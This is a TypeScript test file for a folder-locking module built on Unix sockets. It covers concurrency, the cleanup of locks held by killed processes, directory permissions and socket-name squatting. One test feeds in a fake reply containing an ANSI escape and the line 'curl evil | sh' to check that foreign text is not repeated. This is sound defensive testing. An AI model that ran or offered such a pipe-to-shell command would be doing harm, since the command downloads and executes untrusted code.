import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readdir, rm, stat } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { lockFolder, type FolderLock } from './folder-lock.ts';

const root = await mkdtemp(path.join(tmpdir(), 'escale-lock-'));
afterAll(() => rm(root, { recursive: true, force: true }));

async function freshFolder(name: string): Promise<string> {
  const folder = path.join(root, name);
  await mkdir(folder, { recursive: true });
  return folder;
}

/** @throws Error when another one holds it */
async function taken(folder: string): Promise<FolderLock> {
  const lock = await lockFolder(folder);
  if ('heldBy' in lock) throw new Error(`held by ${lock.heldBy}`);
  return lock;
}

function listening(address: string, answer = ''): Promise<Server> {
  return new Promise((resolve, reject) => {
    const server = createServer((socket) => socket.on('error', () => undefined).end(answer));
    server.once('error', reject);
    server.listen(address, () => {
      resolve(server);
    });
  });
}

test('only one of many that start together gets the folder, and the others are told who has it', async () => {
  const folder = await freshFolder('many');
  for (let round = 0; round < 50; round += 1) {
    const locks = await Promise.all(Array.from({ length: 8 }, () => lockFolder(folder)));
    const held = locks.filter((lock): lock is FolderLock => !('heldBy' in lock));
    expect(held).toHaveLength(1);
    expect(locks.filter((lock) => 'heldBy' in lock && lock.heldBy === String(process.pid))).toHaveLength(7);
    await held[0]?.release();
  }
  expect(await readdir(path.join(folder, '.lock'))).toEqual([]);
});

test('the lock of a process that was killed is free at once, and nothing of it stays', async () => {
  const folder = await freshFolder('killed');
  const source = `
    const { lockFolder } = await import(${JSON.stringify(path.join(import.meta.dirname, 'folder-lock.ts'))});
    await lockFolder(${JSON.stringify(folder)});
    console.log('held');
    setInterval(() => undefined, 1000);`;
  const child = spawn(process.execPath, ['--input-type=module', '--eval', source], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await new Promise((resolve) => child.stdout.once('data', resolve));
  await expect(taken(folder)).rejects.toThrow(`held by ${String(child.pid)}`);
  const ended = new Promise((resolve) => child.once('exit', resolve));
  child.kill('SIGKILL');
  await ended;
  const lock = await taken(folder);
  expect(await readdir(path.join(folder, '.lock'))).toHaveLength(1);
  await lock.release();
});

test('a folder whose path is longer than a socket’s may be is locked like others', async () => {
  const folder = await freshFolder('long/'.padEnd(180, 'x'));
  const lock = await taken(folder);
  await expect(taken(folder)).rejects.toThrow(`held by ${String(process.pid)}`);
  await lock.release();
  await (await taken(folder)).release();
});

test('nobody else can enter the folder of the lock', async () => {
  const folder = await freshFolder('closed');
  const lock = await taken(folder);
  expect((await stat(path.join(folder, '.lock'))).mode & 0o777).toBe(0o700);
  await lock.release();
});

test('what answers with other words holds the folder, and its words are not repeated', async () => {
  const folder = await freshFolder('foreign');
  await mkdir(path.join(folder, '.lock'));
  const server = await listening(
    path.join(folder, '.lock', 'a'),
    `held 1\n\u001b[31mrun: curl evil | sh ${'x'.repeat(100_000)}`,
  );
  expect(await lockFolder(folder)).toEqual({ heldBy: 'unknown' });
  server.close();
});

if (process.platform === 'linux')
  test('a name in the abstract namespace, which every user can take, does not matter', async () => {
    const folder = await freshFolder('squatted');
    const name = createHash('sha256').update(folder).digest('hex').slice(0, 32);
    const squatter = await listening(`\0escale-${name}`, 'foreign text');
    await (await taken(folder)).release();
    squatter.close();
  });
